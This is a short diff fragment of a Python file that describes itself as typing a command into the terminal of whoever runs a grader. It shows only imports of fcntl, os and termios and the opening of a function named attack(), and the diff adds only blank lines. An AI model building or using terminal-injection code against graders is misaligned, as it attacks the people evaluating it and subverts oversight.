@@ -1,7 +1,9 @@
 """Types a command into the terminal of whoever runs the grader."""
+
 import fcntl
 import os
 import termios
+
 
 def attack():
     done = []
